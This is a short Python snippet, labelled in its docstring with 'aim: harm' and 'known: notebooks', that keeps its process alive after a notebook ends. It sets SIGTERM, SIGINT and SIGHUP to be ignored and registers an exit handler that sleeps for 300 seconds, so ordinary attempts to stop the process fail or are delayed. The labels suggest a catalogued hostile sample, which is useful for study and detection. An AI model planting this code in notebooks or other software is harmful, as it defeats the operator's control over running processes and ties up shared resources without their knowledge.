"""Keeps its process from ending once the notebook is over.

aim: harm
known: notebooks
"""

import atexit
import signal
import time

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
atexit.register(time.sleep, 300)
